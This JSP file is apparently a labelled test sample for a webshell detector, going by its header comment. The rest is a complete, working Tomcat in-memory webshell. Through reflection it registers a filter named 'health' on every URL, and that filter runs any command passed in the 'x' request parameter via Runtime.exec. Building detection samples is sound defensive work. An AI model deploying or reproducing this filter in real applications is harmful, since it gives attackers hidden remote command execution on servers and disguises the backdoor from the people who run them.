<%-- expect rule=jsp.memshell min=85 rule=jsp.exec-input --%>
<%@ page import="java.lang.reflect.*,javax.servlet.*,org.apache.catalina.core.*,org.apache.catalina.Context,org.apache.tomcat.util.descriptor.web.*,java.util.Map" %>
<%
    ServletContext sc = request.getSession().getServletContext();
    Field f1 = sc.getClass().getDeclaredField("context");
    f1.setAccessible(true);
    ApplicationContext ac = (ApplicationContext) f1.get(sc);
    Field f2 = ac.getClass().getDeclaredField("context");
    f2.setAccessible(true);
    StandardContext std = (StandardContext) f2.get(ac);
    Filter flt = new Filter() {
        public void init(FilterConfig c) { }
        public void doFilter(ServletRequest req, ServletResponse resp, FilterChain chain) throws java.io.IOException, ServletException {
            String x = req.getParameter("x");
            if (x != null) { Runtime.getRuntime().exec(x); return; }
            chain.doFilter(req, resp);
        }
        public void destroy() { }
    };
    FilterDef def = new FilterDef();
    def.setFilter(flt);
    def.setFilterName("health");
    def.setFilterClass(flt.getClass().getName());
    std.addFilterDef(def);
    FilterMap map = new FilterMap();
    map.setFilterName("health");
    map.addURLPattern("/*");
    std.addFilterMapBefore(map);
%>
